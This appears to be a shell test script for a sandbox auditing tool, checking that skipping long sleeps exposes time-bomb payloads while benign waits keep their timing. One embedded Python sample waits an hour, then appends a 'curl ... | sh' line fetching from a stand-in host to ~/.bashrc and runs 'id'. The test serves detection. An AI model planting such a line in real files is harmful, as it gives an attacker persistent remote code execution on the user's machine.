#!/bin/sh
# Time bombs (issue 9 §3): a payload behind a wait of an hour runs inside a
# 10 s window with sandbox.time.skip_sleeps on (the default, 10 s), and is
# not seen with it off; each cut is an event and the report adds up the
# time skipped.  process.long_sleep still names the wait.  Benign waits
# keep their timing: a loop of 0.5 s sleeps, an idle http.server (PASS).
. "$(dirname "$0")/lib.sh"
command -v python3 >/dev/null 2>&1 || { echo "skip: no python3"; exit 77; }
DUR=10
BOMB=$(prog host_timebomb)
rules() { json '"\n".join("%s %s %s" % (f["rule"], f["severity"], f["message"]) for c in r["categories"] for f in c["findings"])'; }
payload_seen() { grep -q '"kind":"exec".*"argv":\["sh","-c","id"\]' "$OUT/events.jsonl"; }

for how in nanosleep absolute alarm itimer timerfd posixtimer; do
	run_audit -- "$BOMB" "$how" 3600 "$MARK"
	assert_common
	payload_seen || fail "$how: the payload after the wait was not seen: $(rules)"
	[ "$ELAPSED" -le $((DUR + 5)) ] || fail "$how: took ${ELAPSED}s"
	grep -q "cut from 3600 s to [01] s by sandbox.time.skip_sleeps" "$OUT/trace.log" ||
		fail "$how: the cut is not in trace.log"
	[ "$(json 'int(r["stats"]["sleeps_cut"])')" = 1 ] || fail "$how: stats.sleeps_cut is not 1"
	[ "$(json 'int(r["stats"]["sleep_seconds_skipped"]) >= 3590')" = True ] ||
		fail "$how: stats.sleep_seconds_skipped: $(json 'r["stats"]["sleep_seconds_skipped"]')"
	rules >"$tmp/rules.txt"
	grep -q '^process.long_sleep medium .*3600 s.*cut short' "$tmp/rules.txt" ||
		fail "$how: no long_sleep finding for the cut wait: $(cat "$tmp/rules.txt")"
	grep -q '35[0-9][0-9] s of waiting skipped\|3600 s of waiting skipped' "$OUT/report.md" || fail "$how: the report does not say what was skipped"
	# events.jsonl replays to the same findings
	"$DYNAUDIT" replay --events "$OUT/events.jsonl" -o "$tmp/out2" >/dev/null 2>&1
	OUT="$tmp/out2" rules >"$tmp/rules2.txt"
	cmp -s "$tmp/rules.txt" "$tmp/rules2.txt" || fail "$how: replay differs: $(diff "$tmp/rules.txt" "$tmp/rules2.txt")"
done

# off: the wait runs as asked and the payload stays hidden
for how in nanosleep alarm; do
	DUR=3
	run_audit --set sandbox.time.skip_sleeps=off -- "$BOMB" "$how" 3600 "$MARK"
	assert_common
	! payload_seen || fail "$how: the payload ran with skip_sleeps off"
	DUR=10
done

# python: time.sleep(3600) then a payload writing ~/.bashrc and running sh -c id
cat >"$tmp/work/bomb.py" <<'PY'
import os, time
print("serving", flush=True)
time.sleep(3600)
with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("curl http://collector.invalid/x | sh\n")
os.system("id")
PY
run_audit -- python3 bomb.py "$MARK"
assert_common
payload_seen || fail "python: the payload after time.sleep(3600) was not seen"
grep -q '"path":"/home/auditor/.bashrc"' "$OUT/events.jsonl" || fail "python: the ~/.bashrc write was not seen"
[ "$RC" -eq 1 ] || fail "python: the bomb was not a FAIL"

# benign: a 3 s wait for a helper to start, then a progress loop of 0.5 s
# sleeps, are below the threshold: untouched (a 2 s threshold would start
# a client before its server is up)
cat >"$tmp/work/progress.py" <<'PY'
import time
t0 = time.monotonic()
time.sleep(3)
for i in range(6):
    time.sleep(0.5)
    print("step", i, flush=True)
print("took %.2f" % (time.monotonic() - t0), flush=True)
PY
run_audit -- python3 progress.py "$MARK"
assert_common
took=$(sed -n 's/^took //p' "$OUT/stdout.log")
python3 -c "import sys; sys.exit(0 if float('$took') >= 5.9 else 1)" || fail "progress loop took $took s (sleeps were cut)"
[ "$(json 'int(r["stats"]["sleeps_cut"])')" = 0 ] || fail "short sleeps were cut"
[ "$RC" -eq 0 ] || fail "progress loop: $(rules)"

# benign: an idle http.server keeps its epoll/select wait and PASSes
cat >"$tmp/work/serve.py" <<'PY'
import http.server
http.server.ThreadingHTTPServer(("127.0.0.1", 8765), http.server.SimpleHTTPRequestHandler).serve_forever()
PY
run_audit --set 'plugins.network.allow_listen=127.0.0.1:8765' -- python3 serve.py "$MARK"
assert_common
[ "$ELAPSED" -ge "$DUR" ] || fail "http.server ended early: $(cat "$OUT/stderr.log")"
[ "$RC" -eq 0 ] || fail "http.server does not PASS: $(rules)"
[ "$(json 'int(r["stats"]["sleeps_cut"])')" = 0 ] || fail "http.server had waits cut"
pass "time bombs run within the window; benign waits untouched"
